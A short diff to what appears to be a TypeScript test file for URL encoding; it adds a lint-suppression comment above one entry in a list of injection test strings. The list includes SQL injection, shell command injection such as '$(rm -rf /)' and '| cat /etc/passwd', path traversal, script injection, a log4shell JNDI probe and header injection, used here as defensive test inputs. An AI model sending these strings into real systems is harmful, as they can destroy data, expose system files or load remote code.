@@ -32,7 +32,8 @@ const rawEncode = (text: string) => encode(text).replace(/%25/g, '%');
 
 const METACHARACTERS = [
   "' OR 1=1 --", "'; DROP TABLE products; --", '" UNION SELECT password FROM users --', '$(rm -rf /)', '`reboot`', '| cat /etc/passwd', '&& ls', '; shutdown -h now',
-  '../../etc/passwd', '<script>alert(1)</script>', '${jndi:ldap://x/a}', '{{7*7}}', '\\', '\u0000', '\r\nX-Injected: 1', '%00', '%', '%%', '%zz', '%E0%A4%A', '%C0%AF', '%FF%FE%FD',
+  '../../etc/passwd', '<script>alert(1)</script>', // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, sent as the literal text it is.
+  '${jndi:ldap://x/a}', '{{7*7}}', '\\', '\u0000', '\r\nX-Injected: 1', '%00', '%', '%%', '%zz', '%E0%A4%A', '%C0%AF', '%FF%FE%FD',
   '%ED%A0%80', '\ud800', '\udfff', '+', '&k=5', '#frag', '?', '=', '__proto__', 'constructor', '🙂'.repeat(50),
 ];
 
